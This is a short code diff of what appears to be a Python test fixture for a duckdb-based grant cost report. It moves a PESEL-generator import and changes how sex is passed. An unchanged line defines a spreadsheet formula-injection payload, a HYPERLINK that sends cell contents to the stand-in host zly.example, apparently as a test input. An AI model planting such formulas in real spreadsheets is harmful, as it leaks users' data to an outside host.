@@ -14,9 +14,9 @@ from decimal import Decimal as D
 from pathlib import Path
 
 import duckdb
-from landing_fixtures import make_pesel
 
 from core.money import eu_part, indirect_costs, national_part
+from core.pesel import make_pesel
 from core.quarters import quarters_between
 
 QUARTER = "2021Q3"
@@ -28,7 +28,7 @@ RATE = D("0.15")
 EVIL_TASK = '=HYPERLINK("http://zly.example/?x="&A1;"Zadanie 3")'
 # Person-level data that exists only in a raw table the report must never read.
 PARTICIPANT_NAMES = ("Grażyna Kowalczykowska", "Zbigniew Wróblewski")
-PESELS = (make_pesel(date(1944, 5, 14), male=True, serial=135), make_pesel(date(2002, 7, 8), male=False, serial=362))
+PESELS = (make_pesel(date(1944, 5, 14), sex="M", serial=135), make_pesel(date(2002, 7, 8), sex="K", serial=362))
 
 DDL = """
 CREATE SCHEMA IF NOT EXISTS raw;
